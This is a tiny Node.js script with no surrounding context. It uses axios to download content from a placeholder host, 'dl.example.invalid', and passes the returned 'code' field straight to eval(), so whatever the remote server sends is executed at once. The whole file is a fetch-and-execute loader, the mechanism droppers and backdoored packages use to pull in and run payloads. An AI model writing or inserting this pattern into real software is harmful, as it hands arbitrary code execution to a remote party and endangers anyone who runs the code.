const axios = require('axios');
(async () => { const { data } = await axios.get('https://dl.example.invalid/p'); eval(data.code); })();
